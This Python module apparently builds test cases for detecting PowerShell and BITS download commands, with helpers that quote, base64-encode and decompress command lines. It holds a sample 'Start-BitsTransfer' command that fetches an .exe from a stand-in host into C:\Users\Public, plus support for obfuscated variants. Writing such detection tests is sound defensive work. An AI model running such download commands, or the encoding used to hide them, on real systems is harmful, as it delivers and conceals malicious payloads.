"""What a case is, and how its command line is written."""

import base64
import zlib
from dataclasses import dataclass, field

POWERSHELL = ("powershell.exe", "PowerShell.EXE")
PWSH = ("pwsh.exe", "pwsh.dll")
CMD = ("cmd.exe", "Cmd.Exe")
BITSADMIN = ("bitsadmin.exe", "bitsadmin.exe")

URL = "http://files.example.com/a.exe"
TO = r"C:\Users\Public\a.exe"
HOST = "files.example.com"
NAMED = f"-Source {URL} -Destination {TO}"
PLAIN = f"Start-BitsTransfer {NAMED}"
SEPARATOR = "|"


@dataclass
class Case:
    process: str
    shows: str
    image: tuple = POWERSHELL
    command: str = "Start-BitsTransfer"
    direction: str = "download"
    sources: list = field(default_factory=lambda: [URL])
    destinations: list = field(default_factory=lambda: [TO])
    host: str = HOST
    decoded: str = ""
    obfuscation: str = ""
    facts: dict = field(default_factory=dict)


def quoted(word):
    """A word as the C runtime's splitting gives it back."""
    text, backslashes = '"', 0
    for c in word:
        if c == '"':
            text += "\\" * (backslashes + 1)
        backslashes = backslashes + 1 if c == "\\" else 0
        text += c
    return text + "\\" * backslashes + '"'


def ps(script, options="-NoProfile -Command"):
    return f"powershell.exe {options} {quoted(script)}"


def encoded(script):
    """The value of -EncodedCommand: base64 of UTF-16LE."""
    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")


def b64(text, encoding="utf-8"):
    return base64.b64encode(text.encode(encoding)).decode("ascii")


def unpacked(payload, window_bits):
    return zlib.decompress(base64.b64decode(payload), window_bits).decode("ascii")


def down(process, shows, obfuscation="", decoded=None, **others):
    """The download of URL to TO. `decoded` is what the text must come to where it is hidden."""
    if decoded is None:
        decoded = PLAIN if obfuscation else ""
    return Case(process, shows, decoded=decoded, obfuscation=obfuscation, **others)
